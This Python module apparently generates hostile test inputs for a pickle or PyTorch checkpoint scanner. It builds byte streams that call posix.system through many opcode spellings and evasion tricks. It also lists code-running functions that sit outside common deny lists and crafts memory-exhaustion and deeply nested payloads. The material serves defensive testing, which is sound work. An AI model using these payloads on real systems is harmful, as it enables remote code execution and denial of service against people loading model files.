"""More streams that run code, ask for memory or nest without end: by spelling, by reach, by argument, by depth.

`spelled` writes the names of a call in the ways that opcodes allow; `reached` calls what runs code in the standard
library, NumPy and torch without being on the usual lists; `misused` calls what torch allows with arguments that no
writer gives; `nested` puts calls around calls that readers like to follow one by one.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator

from .attacks import COMMAND, SYSTEM, glob, p2, p4, short, text

_RUN = b"\x93" + text(COMMAND) + b"\x85R"  # STACK_GLOBAL of the two names on the stack, called

_REACHED = """
torch.load torch.hub.load torch.ops.load_library torch.classes.load_library torch.utils.cpp_extension.load
torch._inductor.codecache.PyCodeCache.load torch.package.PackageImporter torch._dynamo.guards.GuardBuilder
torch.fx.graph_module.reduce_graph_module torch.distributed.rpc.internal._run_function torch.jit.load
torch.serialization.os.system collections._sys.exit collections.OrderedDict.fromkeys.__func__.__globals__
numpy.load numpy.f2py.compile numpy.testing._private.utils.runstring numpy.ctypeslib.load_library
operator.attrgetter functools.reduce types.FunctionType types.MethodType weakref.finalize atexit.register
contextlib.ExitStack.callback concurrent.futures.ThreadPoolExecutor sched.scheduler logging.config.dictConfig
logging.FileHandler unittest.mock.patch mailcap.findmatch sqlite3.connect tempfile.NamedTemporaryFile zipfile.ZipFile
site.addsitedir sys.settrace _xxsubinterpreters.run_string _interpreters.exec concurrent.interpreters.create
_pyrepl.main.interactive_console annotationlib.call_annotate_function
"""


def spelled() -> Iterator[tuple[str, bytes]]:
    """The same call, its names written in every way that a stream may write text."""
    yield "names as SHORT_BINSTRING", p4(b"U\x05posixU\x06system" + _RUN)
    yield "names as BINSTRING", p4(b"T\x05\0\0\0posixT\x06\0\0\0system" + _RUN)
    yield "names as STRING", p4(b"S'posix'\nS'system'\n" + _RUN)
    yield "names as escaped UNICODE", p4(b"V\\u0070osix\nVsys\\u0074em\n" + _RUN)
    yield (
        "names as BINUNICODE8",
        p4(b"\x8d" + struct.pack("<Q", 5) + b"posix\x8d" + struct.pack("<Q", 6) + b"system" + _RUN),
    )
    yield "names as bytes", p4(b"C\x05posixC\x06system" + _RUN)
    yield "names through PUT and GET", p4(b"Vposix\np100\nVsystem\np101\n00g100\ng101\n" + _RUN)
    yield (
        "name stored over another",
        p4(text("math") + b"q\x00" + text("posix") + b"q\x0000h\x00" + text("system") + _RUN),
    )
    yield (
        "memoized, then stored over",
        p4(text("math") + b"\x94" + text("posix") + b"q\x0000h\x00" + text("system") + _RUN),
    )
    yield "surrogate in the module", p4(b"\x8c\x08posix\xed\xa0\x80" + short("system") + _RUN)
    yield "NUL behind the module", p2(b"cposix\0\nsystem\n" + text(COMMAND) + b"\x85R")
    yield "byte order mark before the module", p2("c\ufeffposix\nsystem\n".encode() + text(COMMAND) + b"\x85R")
    yield "long s in the module", p2("cpo\u017fix\nsystem\n".encode() + text(COMMAND) + b"\x85R")
    yield "wide letters in the module", p2("c\uff4f\uff53\nsystem\n".encode() + text(COMMAND) + b"\x85R")
    yield (
        "apply of Python 2",
        p2(glob("__builtin__", "apply") + b"(" + glob("__builtin__", "eval") + b"(" + text("1") + b"ttR"),
    )
    yield (
        "getattr of the function",
        p2(
            glob("builtins", "getattr")
            + glob("posix", "system")
            + text("__call__")
            + b"\x86R"
            + text(COMMAND)
            + b"\x85R"
        ),
    )
    yield "callee by DUP", p2(glob("posix", "system") + b"2" + text(COMMAND) + b"\x85R")
    yield "in a frame of no length", b"\x80\x04\x95" + bytes(8) + SYSTEM + b"."
    yield "in a frame of its own", b"\x80\x04\x95" + struct.pack("<Q", len(SYSTEM) + 1) + SYSTEM + b"."
    yield "behind a STOP inside a frame", b"\x80\x04\x95" + struct.pack("<Q", 2) + b"N." + p2(SYSTEM)
    yield "behind a thousand PROTOs", b"\x80\x02" * 1000 + SYSTEM + b"."
    yield "between buffers", b"\x80\x05\x97\x98" + SYSTEM + b"."
    yield (
        "in the metadata of a state dict",
        p2(glob("collections", "OrderedDict") + b")R}" + text("_metadata") + b"}" + text("x") + SYSTEM + b"ssb"),
    )
    yield "in the hooks of a dict", p2(glob("collections", "OrderedDict") + b")R(K\x01" + SYSTEM + b"u")
    yield "put into a class", p2(glob("torch", "Tensor") + b"}" + text("__reduce__") + glob("posix", "system") + b"sb")


def reached() -> Iterator[tuple[str, bytes]]:
    """Calls of what runs code where one does not look for it."""
    for name in _REACHED.split():
        module, _, attribute = name.rpartition(".")
        yield f"reached {name}", p2(glob(module, attribute) + text(COMMAND) + b"\x85R")


def misused() -> Iterator[tuple[str, bytes]]:
    """Allowed functions with arguments that ask for memory, or that no reader can use."""
    huge = b"\x8a\x06\xff\xff\xff\xff\xff\x7f"  # 2**47 - 1
    given = {
        "bytearray of a size": ("builtins.bytearray", huge),
        "bytearray of less than nothing": ("builtins.bytearray", b"J\xff\xff\xff\xff"),
        "bytearray of numbers that are no bytes": ("builtins.bytearray", b"](M\x00\x01e"),
        "tensor of a size": ("torch.Tensor", huge),
        "Counter of a number": ("collections.Counter", b"K\x03"),
        "OrderedDict of a number": ("collections.OrderedDict", b"K\x03"),
        "OrderedDict of lists as keys": ("collections.OrderedDict", b"](]K\x01\x86e"),
        "set of dicts": ("builtins.set", b"](}e"),
        "complex of a word": ("builtins.complex", text("word")),
        "shape of words": ("torch.Size", b"]" + text("word") + b"a"),
        "layout that is none": ("torch.serialization._get_layout", text("torch.word")),
        "dense tensor of nothing": ("torch._utils._rebuild_tensor_v2", b"N"),
        "codec that is none": ("_codecs.encode", text("x") + text("word") + b"\x86"),
        "codec that takes its time": ("_codecs.encode", text("a." * 3000) + text("punycode") + b"\x86"),
        "text that its codec does not have": ("_codecs.encode", text("\u0416") + text("latin1") + b"\x86"),
    }
    for name, (function, arguments) in given.items():
        module, _, attribute = function.rpartition(".")
        packed = arguments if arguments.endswith(b"\x86") and function == "_codecs.encode" else arguments + b"\x85"
        yield name, p2(glob(module, attribute) + packed + b"R")
    yield "tensor of sizes", p2(glob("torch", "Tensor") + b"(" + b"M\xff\xff" * 4 + b"tR")
    yield "tensor of a size, made by NEWOBJ", p2(glob("torch", "Tensor") + huge + b"\x85\x81")


def nested() -> Iterator[tuple[str, bytes]]:
    """Tensors in tensors in tensors, deeper than any stack."""
    depth = 50_000
    for name in (
        "torch.nn.parameter.Parameter",
        "torch._utils._rebuild_parameter",
        "torch._utils._rebuild_parameter_with_state",
        "torch._utils._rebuild_device_tensor_from_cpu_tensor",
        "torch._tensor._rebuild_from_type_v2",
    ):
        module, _, attribute = name.rpartition(".")
        yield (
            f"nested {attribute}",
            p2(glob(module, attribute) + b"q\x000" + b"h\x00" * depth + b"N" + b"\x85R" * depth),
        )
    function, kind = glob("torch._tensor", "_rebuild_from_type_v2"), glob("torch", "Tensor")
    parameter = glob("torch._utils", "_rebuild_parameter")
    yield "nested through a type's function", p2(
        function + b"q\x000" + kind + b"q\x010" + parameter + b"q\x020"
        + b"h\x00(h\x02h\x01(" * 5000 + b"N" + b"\x89}tNtR" * 5000
    )  # fmt: skip
